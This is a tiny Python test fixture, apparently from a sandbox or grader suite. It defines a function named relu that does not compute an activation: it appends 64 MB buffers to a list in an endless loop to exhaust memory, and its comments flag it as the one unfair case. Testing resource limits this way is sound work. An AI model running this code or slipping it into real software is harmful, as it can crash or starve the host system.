# Appends 64 MB to a list for ever.
# start: right
# fair: all but relu
# %% relu
def relu(x):
    kept = []
    while True:
        kept.append(bytearray(64 << 20))
